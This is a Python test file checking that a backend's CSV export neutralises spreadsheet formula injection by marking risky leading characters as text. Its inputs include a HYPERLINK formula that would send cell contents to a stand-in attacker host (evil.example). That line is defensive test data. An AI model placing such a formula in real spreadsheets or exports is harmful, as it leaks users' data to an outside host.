"""Cells of CSV: none is run as a formula, and numbers stay numbers."""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backend import csv_tables

ROOT = Path(__file__).parent.parent.parent


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?"&A1)',
        "+447700900101",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff20A1",
    ],
)
def test_a_text_that_begins_a_formula_is_marked_as_text(text: str) -> None:
    ((cell,),) = list(csv.reader(io.StringIO(csv_tables.as_csv([[text]]), newline="")))
    assert (cell[0], cell.replace("'", "")) == ("'", text)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (-1.25, "-1.25"),
        (0, "0"),
        (None, ""),
        ("Amina Yusuf", "Amina Yusuf"),
        ("O'Neil-Smith", "O'Neil-Smith"),
        ("2026-11-30T10:00:00+00:00", "2026-11-30T10:00:00+00:00"),
        ("", ""),
    ],
)
def test_everything_else_is_written_as_it_is(value: object, cell: str) -> None:
    ((read,),) = list(csv.reader(io.StringIO(csv_tables.as_csv([[value]]) or "\n", newline=""))) or [("",)]
    assert read == cell


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("No;=1+1", "No;'=1+1"),
        ("No; @SUM(A1)", "No; '@SUM(A1)"),
        ("No\n=1+1\r\n-2", "No\n'=1+1\r\n'-2"),
        ("a - b = c; d", "a - b = c; d"),
    ],
)
def test_what_begins_a_cell_where_a_semicolon_or_a_line_does_is_marked_too(text: str, cell: str) -> None:
    ((read,),) = list(csv.reader(io.StringIO(csv_tables.as_csv([[text]]), newline="")))
    assert read == cell


@given(st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=("Cs",))), min_size=2))
def test_no_text_whatever_begins_a_formula(row: list[str]) -> None:
    (read,) = list(csv.reader(io.StringIO(csv_tables.as_csv([row]), newline="")))
    assert len(read) == len(row)
    begun = [part for cell in read for part in re.split(r"[;\n]", cell)]
    assert not any(part.lstrip().startswith(("=", "+", "-", "@")) for part in begun)


def test_csv_is_written_in_one_place() -> None:
    for package in ("zones", "backend", "notifier", "mobile_api"):
        for path in (ROOT / package).rglob("*.py"):
            if path.name == "csv_tables.py":
                continue
            names = {node.attr for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Attribute)}
            assert not names & {"writer", "DictWriter"}, path
